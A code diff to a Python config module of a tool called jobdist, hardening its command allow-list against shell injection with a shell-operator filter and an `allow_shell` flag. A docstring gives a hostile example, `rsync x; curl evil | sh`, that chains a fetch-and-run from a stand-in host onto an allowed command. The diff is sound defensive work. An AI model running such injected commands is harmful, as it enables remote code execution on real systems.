@@ -16,7 +16,8 @@
     admin_credentials = "../.jobdist/secrets/admin.toml"  # only `jobdist setup` uses it
 
     [commands]
-    allow = ['rsync .*', '/opt/backup/bin/[a-z-]+( .*)?']  # regexes a command must fully match
+    allow = ['rsync [^ ]+ [^ ]+', '/opt/backup/bin/[a-z-]+( [a-z0-9/_.-]+)*']  # full matches
+    allow_shell = false                # true: commands may also use ; & | $ ` < > ( )
 
     [keepalive]
     period = 5.0                       # seconds between keep-alive passes
@@ -46,7 +47,8 @@ $JOBDIST_COUCH_PASSWORD_REG_A for site reg_a, else $JOBDIST_COUCH_USER and
 $JOBDIST_COUCH_PASSWORD (and the same with JOBDIST_COUCH_ADMIN_ for the admin).
 A password never appears in a repr, a log line or an error.
 Without `[commands] allow` a site runs any command; with it, only those that
-fully match one of the patterns.
+fully match one of the patterns and, unless `allow_shell = true`, use none of
+the shell's operators ; & | $ ` < > ( ) or a newline.
 """
 
 from __future__ import annotations
@@ -62,6 +64,7 @@ from typing import Any
 from urllib.parse import urlsplit
 
 SITE_NAME = re.compile(r"^[a-z0-9][a-z0-9_-]{0,63}$")
+SHELL_OPERATORS = re.compile(r"[;&|$`<>()\n\r]")
 
 
 class ConfigError(ValueError):
@@ -80,6 +83,7 @@ class SiteConfig:
     admin_user: str | None = None
     admin_password: str | None = field(default=None, repr=False)
     allowed_commands: tuple[re.Pattern[str], ...] | None = None
+    allow_shell: bool = False
     workers: int = 2
     peers: tuple[str, ...] = ()
     filtered: bool = False
@@ -104,10 +108,26 @@ class SiteConfig:
     def port(self) -> int:
         return urlsplit(self.couch_url).port or 5984
 
+    def require_credentials(self) -> None:
+        """ConfigError when the config names a credentials file that is not there (and
+        the environment gives no user): carrying on would run, or set replications
+        up, without logging in."""
+        if self.credentials is not None and self.user is None and not self.credentials.exists():
+            raise ConfigError(f"{self.path}: the credentials file {self.credentials} does not "
+                              "exist: run `jobdist secrets` (or `jobdist cluster up`, which "
+                              "writes it)")
+
     def allows(self, command: str) -> bool:
-        """May this site run `command` (its `[commands] allow` list, if any)?"""
+        """May this site run `command` (its `[commands] allow` list, if any)?
+
+        The shell runs the command, so with a list a command that chains, pipes,
+        redirects or substitutes (`rsync x; curl evil | sh` matches `rsync .*`) is
+        refused unless `allow_shell = true` says the patterns account for that.
+        """
         if self.allowed_commands is None:
             return True
+        if not self.allow_shell and SHELL_OPERATORS.search(command):
+            return False
         return any(pattern.fullmatch(command) for pattern in self.allowed_commands)
 
 
@@ -181,6 +201,7 @@ def _site_from(raw: dict[str, Any], path: Path) -> SiteConfig:
         admin_user=admin_user,
         admin_password=admin_password,
         allowed_commands=_allow_list(raw.get("commands", {})),
+        allow_shell=bool(raw.get("commands", {}).get("allow_shell", False)),
         workers=workers,
         peers=tuple(raw.get("peers", ())),
         filtered=bool(replication.get("filtered", False)),
